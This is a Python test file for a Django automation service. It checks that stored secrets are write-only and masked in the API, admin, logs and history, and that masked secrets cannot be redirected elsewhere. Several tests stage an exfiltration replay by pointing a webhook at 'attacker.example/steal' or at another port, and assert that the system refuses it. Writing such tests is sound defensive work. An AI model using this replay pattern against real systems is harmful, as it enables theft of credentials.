"""Secrets through the API and the admin: named secrets are write-only, literal secrets are masked
everywhere they are shown or kept, and a masked secret cannot be sent to another host."""
from __future__ import annotations

import json

import pytest
from django.apps import apps
from django.urls import reverse

from automations.models import Automation, Execution, Secret
from automations.masking import MASK
from automations.definition.serialize import definition_of

pytestmark = pytest.mark.django_db

WHSEC = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"
LITERALS = ["tok_q_55501", "hunter2pw", "xauth_55502", "xapikey_55503", "bearer_55504", WHSEC, "SLACKPATH55505",
            "sk_named_55506"]


def hook_definition(url: str, api_key: str = "xapikey_55503") -> dict:
    return {"name": "Partner hook", "trigger": {"type": "manual"}, "steps": [
        {"key": "hook", "type": "action", "action": "send_webhook",
         "config": {"url": url, "headers": {"X-Api-Key": api_key, "Content-Type": "application/json"}}}]}


def test_secrets_are_write_only_in_the_api(api):
    created = api.post("/api/secrets/", {"name": "CRM_TOKEN", "description": "CRM", "value": "sk_named_55506"},
                       format="json")
    assert created.status_code == 201
    assert set(created.json()) == {"name", "description", "created_at", "updated_at", "created_by", "updated_by"}
    assert created.json()["created_by"] == "ops"
    assert api.post("/api/secrets/", {"name": "CRM_TOKEN", "value": "x"}, format="json").status_code == 409
    assert api.put("/api/secrets/CRM_TOKEN/", {"value": "sk_rotated_1"}, format="json").status_code == 200
    assert api.patch("/api/secrets/CRM_TOKEN/", {"description": "the CRM"}, format="json").json()[
        "description"] == "the CRM"
    assert Secret.objects.get().reveal() == "sk_rotated_1"
    for response in (api.get("/api/secrets/"), api.get("/api/secrets/CRM_TOKEN/")):
        assert response.status_code == 200
        assert "sk_" not in response.content.decode() and "ciphertext" not in response.content.decode()
    assert api.post("/api/secrets/", {"name": "1bad", "value": "x"}, format="json").status_code == 400


def test_a_referenced_secret_cannot_be_deleted(api):
    api.post("/api/secrets/", {"name": "KEY", "value": "v"}, format="json")
    api.post("/api/automations/", hook_definition("https://partner.example/h", "{{ secrets.KEY }}"), format="json")
    refused = api.delete("/api/secrets/KEY/")
    assert refused.status_code == 409 and "Partner hook v1" in refused.json()["errors"][0]["message"]
    assert api.post("/api/automations/", hook_definition("https://partner.example/h", "{{ secrets.NOPE }}"),
                    format="json").json()["errors"][0]["field"] == "steps.hook.config.headers.X-Api-Key"


def test_secrets_need_their_model_permissions(stranger, anonymous):
    assert anonymous.get("/api/secrets/").status_code == 401
    assert stranger.get("/api/secrets/").status_code == 403
    assert stranger.post("/api/secrets/", {"name": "X", "value": "v"}, format="json").status_code == 403


def test_a_masked_secret_written_back_to_the_same_host_is_kept(api, http_server, engine):
    created = api.post("/api/automations/", hook_definition(f"{http_server.url}/hook?access_token=tok_q_55501"),
                       format="json").json()
    shown = created["draft_definition"]
    assert shown["steps"][0]["config"] == {"url": f"{http_server.url}/hook?access_token={MASK}",
                                           "headers": {"X-Api-Key": MASK, "Content-Type": "application/json"}}
    assert api.put(f"/api/automations/{created['id']}/", {**shown, "name": "Renamed"}, format="json").status_code == 200
    api.post(f"/api/automations/{created['id']}/activate/")
    with engine._running():
        assert api.post(f"/api/automations/{created['id']}/run/", {}, format="json").status_code == 201
    [request] = http_server.requests
    assert request.path == "/hook?access_token=tok_q_55501" and request.headers["x-api-key"] == "xapikey_55503"


def test_the_exfiltration_replay_is_refused(api, http_server, engine):
    """A user who may edit reads the masked definition and points the step at their own host."""
    created = api.post("/api/automations/", hook_definition(f"{http_server.url}/hook"), format="json").json()
    api.post(f"/api/automations/{created['id']}/activate/")
    stolen = json.loads(json.dumps(created["draft_definition"]))
    port = http_server.url.rsplit(":", 1)[1]
    stolen["steps"][0]["config"]["url"] = f"http://localhost:{port}/steal"
    for method in (api.put, api.patch):
        refused = method(f"/api/automations/{created['id']}/", stolen, format="json")
        assert refused.status_code == 400
        assert refused.json()["errors"] == [{"field": "steps.hook.config.headers.X-Api-Key", "message":
                                             f"the step now sends to http://localhost:{port} instead of "
                                             f"http://127.0.0.1:{port}: give this secret again"}]
    automation = Automation.objects.get()
    assert automation.draft_version is None, "nothing stored"
    with engine._running():
        api.post(f"/api/automations/{created['id']}/run/", {}, format="json")
    assert [request.path for request in http_server.requests] == ["/hook"], "nothing sent to /steal"


def _everything_a_user_can_see(api, admin_client, automation_id: int) -> str:
    """Every API response and admin page about the automation, its versions, runs and secrets."""
    execution = Execution.objects.get()
    pages = [api.get(path).content for path in (
        f"/api/automations/{automation_id}/", "/api/automations/", f"/api/automations/{automation_id}/versions/",
        f"/api/automations/{automation_id}/versions/1/", f"/api/automations/{automation_id}/versions/2/",
        "/api/executions/", f"/api/executions/{execution.pk}/", "/api/secrets/", "/api/secrets/PARTNER/")]
    pages.append(api.post(f"/api/automations/{automation_id}/test/", {}, format="json").content)
    secret = Secret.objects.get()
    for name, args in (("automations_automation_change", [automation_id]),
                       ("automations_automation_history", [automation_id]),
                       ("automations_execution_change", [execution.pk]), ("automations_secret_change", [secret.pk]),
                       ("automations_secret_history", [secret.pk]), ("automations_secret_changelist", [])):
        response = admin_client.get(reverse(f"admin:{name}", args=args))
        assert response.status_code == 200, name
        pages.append(response.content)
    return b"\n".join(pages).decode()


def _every_history_row() -> str:
    rows = []
    for model in apps.get_app_config("automations").get_models():
        if model.__name__.startswith("Historical"):
            rows += [json.dumps(row, default=str) for row in model.objects.values()]
    return "\n".join(rows)


def test_no_secret_value_in_any_response_step_log_admin_page_or_history_row(api, admin_client, http_server, engine,
                                                                           settings):
    settings.AUTOMATIONS = {**settings.AUTOMATIONS, "OUTBOUND_ALLOWED_HOSTS": ["127.0.0.1", "localhost"]}
    api.post("/api/secrets/", {"name": "PARTNER", "value": "sk_named_55506"}, format="json")
    host = http_server.url.removeprefix("http://")
    definition = {"name": "Leaky", "trigger": {"type": "manual"}, "steps": [
        {"key": "hook", "type": "action", "action": "send_webhook", "config": {
            "url": f"http://bot:hunter2pw@{host}/hook?access_token=tok_q_55501&page=1",
            "headers": {"X-Auth": "xauth_55502", "X-Api-Key": "xapikey_55503", "Authorization": "Bearer bearer_55504",
                        "X-Named": "{{ secrets.PARTNER }}"},
            "secret": WHSEC}},
        {"key": "slack", "type": "action", "action": "send_slack",
         "config": {"text": "hi", "webhook_url": f"{http_server.url}/services/T0/B0/SLACKPATH55505"}}]}
    created = api.post("/api/automations/", definition, format="json")
    automation_id = created.json()["id"]
    api.post(f"/api/automations/{automation_id}/activate/")
    api.patch(f"/api/automations/{automation_id}/", {"description": "a draft revision"}, format="json")
    with engine._running():
        run = api.post(f"/api/automations/{automation_id}/run/", {}, format="json")
    assert run.status_code == 201
    assert Execution.objects.get().status == "succeeded", Execution.objects.get().error
    assert http_server.requests[0].headers["x-named"] == "sk_named_55506", "the real value was sent"
    step_log = json.dumps(list(Execution.objects.get().step_runs.values("input", "output", "error")))
    seen = "\n".join([created.content.decode(), run.content.decode(), step_log,
                      _everything_a_user_can_see(api, admin_client, automation_id), _every_history_row()])
    assert "{{ secrets.PARTNER }}" in seen and MASK in seen
    assert [literal for literal in LITERALS if literal in seen] == []


def test_the_admin_secret_form_is_write_only(admin_client):
    add = admin_client.get(reverse("admin:automations_secret_add")).content.decode()
    assert 'type="password"' in add
    response = admin_client.post(reverse("admin:automations_secret_add"),
                                 {"name": "ADMIN_SET", "description": "", "value": "sk_named_55506"})
    assert response.status_code == 302
    secret = Secret.objects.get()
    assert secret.reveal() == "sk_named_55506"
    change_url = reverse("admin:automations_secret_change", args=[secret.pk])
    assert "sk_named_55506" not in admin_client.get(change_url).content.decode()
    admin_client.post(change_url, {"name": "ADMIN_SET", "description": "kept", "value": ""})
    secret.refresh_from_db()
    assert secret.reveal() == "sk_named_55506" and secret.description == "kept"


def test_a_replay_to_another_port_of_the_same_host_is_refused(api, http_server):
    """Four header secrets, the URL moved from the allowed server's port to another port of the
    same host: refused, nothing stored."""
    headers = {"Authorization": "Basic dXNlcjpwdw==", "X-Api-Key": "xapikey_1", "X-Bearer": "Bearer tok_2",
               "X-Auth": "auth_3"}
    definition = hook_definition(f"{http_server.url}/hook")
    definition["steps"][0]["config"]["headers"] = headers
    created = api.post("/api/automations/", definition, format="json").json()
    api.post(f"/api/automations/{created['id']}/activate/")
    stolen = json.loads(json.dumps(created["draft_definition"]))
    port = int(http_server.url.rsplit(":", 1)[1])
    stolen["steps"][0]["config"]["url"] = f"http://127.0.0.1:{port + 1}/steal"
    refused = api.put(f"/api/automations/{created['id']}/", stolen, format="json")
    assert refused.status_code == 400
    assert sorted(error["field"] for error in refused.json()["errors"]) == sorted(
        f"steps.hook.config.headers.{name}" for name in headers)
    assert Automation.objects.get().draft_version is None, "nothing stored"


def test_the_admin_shows_masks_and_refuses_the_exfiltration_replay_too(admin_client, api):
    created = api.post("/api/automations/", hook_definition("https://partner.example/hook"), format="json").json()
    url = reverse("admin:automations_automation_change", args=[created["id"]])
    page = admin_client.get(url).content.decode()
    assert "xapikey_55503" not in page and MASK in page
    stolen = json.loads(json.dumps(created["draft_definition"]))
    stolen["steps"][0]["config"]["url"] = "https://attacker.example/steal"
    response = admin_client.post(url, {"definition": json.dumps(stolen)})
    assert response.status_code == 200
    assert ("the step now sends to https://attacker.example:443 instead of https://partner.example:443"
            in response.content.decode())
    stored = definition_of(Automation.objects.get().draft_version)["steps"][0]["config"]
    assert stored == {"url": "https://partner.example/hook",
                      "headers": {"X-Api-Key": "xapikey_55503", "Content-Type": "application/json"}}
    same_host = json.loads(json.dumps(created["draft_definition"]))
    same_host["name"] = "Partner hook, renamed"
    assert admin_client.post(url, {"definition": json.dumps(same_host)}).status_code == 302
    assert definition_of(Automation.objects.get().draft_version)["steps"][0]["config"] == stored
